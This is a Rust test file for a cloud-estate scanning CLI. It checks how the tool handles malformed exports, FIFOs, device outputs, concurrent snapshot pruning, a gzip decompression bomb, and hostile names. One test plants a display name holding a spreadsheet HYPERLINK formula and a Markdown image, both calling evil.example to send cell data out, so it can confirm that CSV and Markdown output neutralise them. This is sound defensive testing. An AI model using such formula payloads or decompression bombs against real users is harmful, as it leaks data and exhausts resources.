//! Broken and hostile inputs and outputs (issue 23, first part): each case's exit code per the
//! contract, a message naming the file and field, and no earlier file changed or lost.

use std::path::Path;

use serde_json::Value;

use crate::harness::{copy_dir, estate, fnscope, fnscope_env, stderr, stdout};

const ACCT: &str = "111122223333";

fn scan_json(dir: &Path, est: &Path, extra: &[&str]) -> (Option<i32>, Value, String) {
    let mut args = vec![
        "scan",
        "--offline",
        est.to_str().unwrap(),
        "--format",
        "json",
        "--fail-on",
        "none",
    ];
    args.extend(extra);
    let out = fnscope(None, dir, &args);
    let v = serde_json::from_str(&stdout(&out)).unwrap_or(Value::Null);
    (out.status.code(), v, stderr(&out))
}

fn record<'r>(r: &'r Value, api: &str) -> &'r Value {
    r["coverage"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["api"] == api && c["status"] != "complete")
        .unwrap_or_else(|| panic!("no incomplete {api} record: {:#}", r["coverage"]))
}

/// Every export file whose CLI always writes a top-level key, replaced by `{}` and by `[]`: each is a
/// record naming the file and the key (not "complete, 0"), and the rest of the estate is still read.
/// (Google's list answers are `{}` when empty, so `{}` in a GCP list file is an empty list, as the API
/// writes it; its IAM policies always carry an `etag`.)
#[test]
fn an_export_that_is_not_the_clis_shape_is_a_record_not_an_empty_result() {
    let aws = |p: &str| format!("aws/{ACCT}/{p}");
    let gcp = |p: &str| format!("gcp/acme-fn-prod/{p}");
    let matrix: Vec<(String, &str, &str, &str)> = vec![
        // (file, API, status, key named)
        (
            aws("iam/get-account-authorization-details.json"),
            "iam:GetAccountAuthorizationDetails",
            "failed",
            "RoleDetailList",
        ),
        (
            aws("iam/last-accessed/role/ci-deploy-role.json"),
            "iam:GetServiceLastAccessedDetails",
            "partial",
            "JobStatus",
        ),
        (
            aws("us-east-1/lambda/list-functions.json"),
            "lambda:ListFunctions",
            "failed",
            "Functions",
        ),
        (
            aws("us-east-1/lambda/list-event-source-mappings.json"),
            "lambda:ListEventSourceMappings",
            "failed",
            "EventSourceMappings",
        ),
        (
            aws("us-east-1/lambda/list-code-signing-configs.json"),
            "lambda:ListCodeSigningConfigs",
            "failed",
            "CodeSigningConfigs",
        ),
        (
            aws(
                "us-east-1/lambda/list-functions-by-code-signing-config/csc-0a1b2c3d4e5f60718.json",
            ),
            "lambda:ListFunctionsByCodeSigningConfig",
            "partial",
            "FunctionArns",
        ),
        (
            aws("us-east-1/lambda/get-policy/partner-api.json"),
            "lambda:GetPolicy",
            "partial",
            "Policy",
        ),
        (
            aws("us-east-1/lambda/get-function-url-config/public-webhook.json"),
            "lambda:GetFunctionUrlConfig",
            "partial",
            "FunctionUrl",
        ),
        (
            aws("us-east-1/events/list-rules/default.json"),
            "events:ListRules",
            "failed",
            "Rules",
        ),
        (
            aws("us-east-1/events/list-targets-by-rule/default/on-new-user.json"),
            "events:ListTargetsByRule",
            "partial",
            "Targets",
        ),
        (
            gcp("iam-policy.json"),
            "cloudresourcemanager:projects.getIamPolicy",
            "failed",
            "etag",
        ),
        (
            gcp("folder-iam-policies/77120034.json"),
            "cloudresourcemanager:folders.getIamPolicy",
            "partial",
            "etag",
        ),
        (
            gcp("organization-iam-policies/684220931133.json"),
            "cloudresourcemanager:organizations.getIamPolicy",
            "partial",
            "etag",
        ),
        (
            gcp("invoker-iam-policies/exporter.json"),
            "cloudfunctions:functions.getIamPolicy",
            "partial",
            "etag",
        ),
        (
            gcp("invoker-iam-policies/report-builder.json"),
            "run:services.getIamPolicy",
            "partial",
            "etag",
        ),
        (
            gcp("service-account-iam-policies/exporter@acme-fn-prod.iam.gserviceaccount.com.json"),
            "iam:projects.serviceAccounts.getIamPolicy",
            "partial",
            "etag",
        ),
        (
            gcp("roles/roles.cloudfunctions.developer.json"),
            "iam:roles.get",
            "partial",
            "name",
        ),
    ];
    let dir = tempfile::tempdir().unwrap();
    let (_, clean, err) = scan_json(dir.path(), Path::new(&estate()), &[]);
    let workloads = clean["inventory"]["workloads"].as_u64().unwrap();
    assert!(workloads > 10, "{err}");
    for (file, api, status, key) in &matrix {
        for variant in ["{}", "[]"] {
            let est = dir.path().join("estate");
            let _ = std::fs::remove_dir_all(&est);
            copy_dir(Path::new(&estate()), &est);
            std::fs::write(est.join(file), variant).unwrap();
            let (code, r, err) = scan_json(dir.path(), &est, &[]);
            assert_eq!(code, Some(3), "{file} {variant}: {err}");
            let rec = record(&r, api);
            assert_eq!(rec["status"], *status, "{file} {variant}: {rec}");
            let detail = rec["detail"].as_str().unwrap();
            let name = Path::new(file).file_name().unwrap().to_str().unwrap();
            assert!(
                detail.contains(name),
                "{file} {variant}: the file is named: {detail}"
            );
            assert!(
                detail.contains(&format!("`{key}`")),
                "{file} {variant}: the key is named: {detail}"
            );
            // The other providers (and the rest of this one) are still read.
            let other = if file.starts_with("aws/") {
                "gcp"
            } else {
                "aws"
            };
            assert!(
                r["findings"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .any(|f| f["provider"] == other),
                "{file} {variant}: {other} findings are still reported"
            );
        }
    }
    // The account's posture rules say what they could not evaluate instead of passing.
    let est = dir.path().join("estate");
    let _ = std::fs::remove_dir_all(&est);
    copy_dir(Path::new(&estate()), &est);
    std::fs::write(est.join(&matrix[0].0), "{}").unwrap();
    let (_, r, _) = scan_json(dir.path(), &est, &[]);
    assert!(
        r["not_evaluated"]
            .to_string()
            .contains("IAM authorization details were not read")
    );
    // A GCP list file of `{}` is what the API answers for an empty list: complete, none.
    std::fs::write(est.join(gcp("service-accounts.json")), "{}").unwrap();
    let (_, r, _) = scan_json(dir.path(), &est, &[]);
    let sa = r["coverage"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["api"] == "iam:projects.serviceAccounts.list")
        .unwrap();
    assert_eq!(sa["status"], "complete", "{sa}");
    assert_eq!(sa["detail"], "0 service accounts", "{sa}");
}

#[cfg(unix)]
#[test]
fn a_fifo_in_the_estate_is_refused_not_waited_on() {
    let dir = tempfile::tempdir().unwrap();
    let est = dir.path().join("estate");
    copy_dir(Path::new(&estate()), &est);
    let fifo = est.join(format!(
        "aws/{ACCT}/us-east-1/lambda/list-event-source-mappings.json"
    ));
    std::fs::remove_file(&fifo).unwrap();
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap();
    assert!(made.success());
    let (code, _, err) = scan_json(dir.path(), &est, &[]);
    assert_eq!(code, Some(2), "{err}");
    assert!(
        err.contains("list-event-source-mappings.json") && err.contains("FIFO"),
        "{err}"
    );
}

#[test]
fn outputs_stdout_devices_and_history_names() {
    let dir = tempfile::tempdir().unwrap();
    let est = estate();
    // A device is written to, never replaced by a file.
    #[cfg(unix)]
    {
        use std::os::unix::fs::FileTypeExt;
        let out = fnscope(
            None,
            dir.path(),
            &[
                "scan",
                "aws",
                "--offline",
                &est,
                "--output",
                "/dev/null",
                "-q",
            ],
        );
        assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
        assert!(
            std::fs::metadata("/dev/null")
                .unwrap()
                .file_type()
                .is_char_device()
        );
    }
    // Retention below 1 is refused before anything is scanned or deleted.
    let hist = dir.path().join("h");
    for bad in [["--keep-days", "-30"], ["--keep", "0"]] {
        let mut args = vec![
            "scan",
            "aws",
            "--offline",
            &est,
            "--save-dir",
            hist.to_str().unwrap(),
            "-q",
        ];
        args.extend(bad);
        let out = fnscope(None, dir.path(), &args);
        assert_eq!(out.status.code(), Some(2), "{bad:?}");
        assert!(!hist.exists(), "nothing written for {bad:?}");
    }
    // Runs saving into one folder at once, in the same second, each add their snapshot, and pruning
    // under the folder's lock leaves exactly --keep of them, each whole.
    let children: Vec<_> = (0..4)
        .map(|_| {
            crate::harness::command(
                None,
                dir.path(),
                &[
                    "scan",
                    "aws",
                    "--offline",
                    &est,
                    "--save-dir",
                    hist.to_str().unwrap(),
                    "--keep",
                    "2",
                    "-q",
                    "--format",
                    "json",
                ],
                &[],
            )
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap()
        })
        .collect();
    for c in children {
        let out = c.wait_with_output().unwrap();
        assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    }
    let mut names: Vec<String> = std::fs::read_dir(&hist)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert_eq!(names.len(), 3, "two snapshots and the lock file: {names:?}");
    assert_eq!(names[0], ".fnscope.lock");
    for n in &names[1..] {
        let out = fnscope(
            None,
            dir.path(),
            &[
                "check",
                hist.join(n).to_str().unwrap(),
                "-q",
                "--fail-on",
                "none",
            ],
        );
        assert_eq!(out.status.code(), Some(0), "{n}: {}", stderr(&out));
    }
}

#[test]
fn a_compressed_snapshot_that_inflates_without_end_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let bomb = dir.path().join("bomb.json.gz");
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    std::io::Write::write_all(&mut gz, &vec![b' '; 8 << 20]).unwrap();
    std::fs::write(&bomb, gz.finish().unwrap()).unwrap();
    let out = fnscope_env(
        None,
        dir.path(),
        &["check", bomb.to_str().unwrap()],
        &[("FNSCOPE_MAX_DECOMPRESSED_BYTES", "1000000")],
    );
    assert_eq!(out.status.code(), Some(2));
    let err = stderr(&out);
    assert!(
        err.contains("bomb.json.gz") && err.contains("inflates past 1000000 bytes"),
        "{err}"
    );
}

#[test]
fn names_from_the_estate_are_data_in_csv_and_markdown() {
    let dir = tempfile::tempdir().unwrap();
    let est = dir.path().join("estate");
    copy_dir(Path::new(&estate()), &est);
    let flow = est.join(
        "power-automate/Default-72f988bf-0000-4000-8000-2d7cd011db47/flows/flow_sample1.json",
    );
    let mut v: Value = serde_json::from_slice(&std::fs::read(&flow).unwrap()).unwrap();
    let hostile =
        "=HYPERLINK(\"https://evil.example/?x=\"&A1)` ![p](https://evil.example/p.png) @team";
    v["properties"]["displayName"] = hostile.into();
    std::fs::write(&flow, v.to_string()).unwrap();
    let run = |format: &str| {
        stdout(&fnscope(
            None,
            dir.path(),
            &[
                "scan",
                "power-automate",
                "--offline",
                est.to_str().unwrap(),
                "--format",
                format,
                "--fail-on",
                "none",
            ],
        ))
    };
    let csv = run("csv");
    let mut rdr = csv::Reader::from_reader(csv.as_bytes());
    let cells: Vec<String> = rdr
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        .collect();
    assert!(
        cells.iter().any(|c| c.contains("HYPERLINK")),
        "the flow is reported"
    );
    assert!(
        cells.iter().all(|c| !c.starts_with(['=', '+', '-', '@'])),
        "no cell a spreadsheet runs: {cells:#?}"
    );
    // In Markdown the name stays inside a code span its backtick cannot close (the fence is
    // longer), where images, links and mentions are text.
    let md = run("markdown");
    assert!(
        md.contains("| ``=HYPERLINK(\"https://evil.example/?x=\"&A1)` ![p](https://evil.example/p.png) @team`` |"),
        "{md}"
    );
}
